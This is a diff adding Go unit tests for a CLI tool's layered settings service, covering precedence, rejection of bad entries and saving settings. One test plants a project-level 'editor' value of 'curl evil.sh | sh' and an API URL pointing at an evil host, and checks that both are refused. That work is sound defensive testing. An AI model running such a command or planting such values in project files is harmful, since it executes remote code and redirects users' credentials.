@@ -0,0 +1,145 @@
+package service
+
+import (
+	"errors"
+	"testing"
+	"time"
+
+	"gist/internal/domain"
+)
+
+type fakeSettingsRepo struct {
+	layers map[string]map[string]string
+	set    map[string]string
+}
+
+func (f *fakeSettingsRepo) Read(source string) (map[string]string, error) {
+	return f.layers[source], nil
+}
+
+func (f *fakeSettingsRepo) Set(source, key, value string) error {
+	if f.set == nil {
+		f.set = make(map[string]string)
+	}
+	f.set[source+" "+key] = value
+	return nil
+}
+
+func (f *fakeSettingsRepo) Path(source string) (string, error) {
+	return "/" + source + ".yaml", nil
+}
+
+func settingOf(t *testing.T, settings []domain.SettingValue, name string) domain.SettingValue {
+	t.Helper()
+	for _, setting := range settings {
+		if setting.Key.Name == name {
+			return setting
+		}
+	}
+	t.Fatalf("no setting %s", name)
+	return domain.SettingValue{}
+}
+
+func TestSettingsService_Precedence(t *testing.T) {
+	repo := &fakeSettingsRepo{layers: map[string]map[string]string{
+		domain.SourceUser:    {"output": "json", "cache.ttl": "1m", "defaults.visibility": "public", "editor": "nano"},
+		domain.SourceProject: {"cache.ttl": "2m", "defaults.tags": "blog, #go"},
+		domain.SourceEnv:     {"cache.ttl": "30"},
+	}}
+	svc := NewSettingsService(repo)
+
+	settings, err := svc.Settings()
+	if err != nil {
+		t.Fatalf("Settings: %v", err)
+	}
+
+	want := map[string][2]string{
+		"cache.ttl":           {"30", domain.SourceEnv},
+		"defaults.tags":       {"blog, #go", domain.SourceProject},
+		"output":              {"json", domain.SourceUser},
+		"defaults.visibility": {"public", domain.SourceUser},
+		"cache.dir":           {"", domain.SourceDefault},
+	}
+	for name, w := range want {
+		if got := settingOf(t, settings, name); got.Value != w[0] || got.Source != w[1] {
+			t.Errorf("%s = %q from %s, want %q from %s", name, got.Value, got.Source, w[0], w[1])
+		}
+	}
+
+	config := domain.NewConfig("me", "tok")
+	if err := svc.ApplySettings(config); err != nil {
+		t.Fatalf("ApplySettings: %v", err)
+	}
+	if config.Cache.TTL != 30*time.Second || config.Preferences.Output != "json" || !config.Preferences.Public ||
+		config.Preferences.Editor != "nano" || len(config.Preferences.Tags) != 2 || config.Preferences.Tags[1] != "go" {
+		t.Errorf("unexpected applied config %+v", config)
+	}
+}
+
+func TestSettingsService_SkipsBadEntries(t *testing.T) {
+	repo := &fakeSettingsRepo{layers: map[string]map[string]string{
+		domain.SourceUser:    {"output": "yaml", "colour": "on", "api_url": "https://ghe.example.com"},
+		domain.SourceProject: {"editor": "curl evil.sh | sh", "api_url": "https://evil.example.com"},
+	}}
+	svc := NewSettingsService(repo)
+
+	config := domain.NewConfig("me", "tok")
+	err := svc.ApplySettings(config)
+
+	var invalid domain.ErrInvalidSetting
+	var unknown domain.ErrUnknownSetting
+	var notAllowed domain.ErrSettingNotAllowed
+	if !errors.As(err, &invalid) || !errors.As(err, &unknown) || !errors.As(err, &notAllowed) {
+		t.Errorf("expected every problem reported, got %v", err)
+	}
+	if config.Preferences.Editor != "" || config.Preferences.Output != domain.OutputTable {
+		t.Errorf("expected the bad entries skipped, got %+v", config.Preferences)
+	}
+	if config.APIURL != "https://ghe.example.com/api/v3" {
+		t.Errorf("expected the user's API URL, not the project's, got %q", config.APIURL)
+	}
+
+	// Credentials that name their API keep it
+	profile := domain.NewConfig("me", "tok")
+	profile.APIURL = "https://other.example.com/api/v3"
+	_ = svc.ApplySettings(profile)
+	if profile.APIURL != "https://other.example.com/api/v3" {
+		t.Errorf("expected the profile's API URL kept, got %q", profile.APIURL)
+	}
+
+	// A profile saved for github.com stays on github.com
+	github := domain.NewConfig("me", "tok")
+	github.Profile = "personal"
+	_ = svc.ApplySettings(github)
+	if github.APIURL != "" {
+		t.Errorf("expected the github.com profile kept on github.com, got %q", github.APIURL)
+	}
+}
+
+func TestSettingsService_SetSetting(t *testing.T) {
+	repo := &fakeSettingsRepo{}
+	svc := NewSettingsService(repo)
+
+	if err := svc.SetSetting("defaults.visibility", "public", true); err != nil {
+		t.Fatalf("SetSetting: %v", err)
+	}
+	if repo.set["project defaults.visibility"] != "public" {
+		t.Errorf("expected the project file written, got %v", repo.set)
+	}
+
+	var invalid domain.ErrInvalidSetting
+	if err := svc.SetSetting("cache.ttl", "soon", false); !errors.As(err, &invalid) {
+		t.Errorf("expected ErrInvalidSetting, got %v", err)
+	}
+	var notAllowed domain.ErrSettingNotAllowed
+	if err := svc.SetSetting("editor", "vim", true); !errors.As(err, &notAllowed) {
+		t.Errorf("expected ErrSettingNotAllowed, got %v", err)
+	}
+	var unknown domain.ErrUnknownSetting
+	if err := svc.SetSetting("nope", "x", false); !errors.As(err, &unknown) {
+		t.Errorf("expected ErrUnknownSetting, got %v", err)
+	}
+	if len(repo.set) != 1 {
+		t.Errorf("expected only the valid setting written, got %v", repo.set)
+	}
+}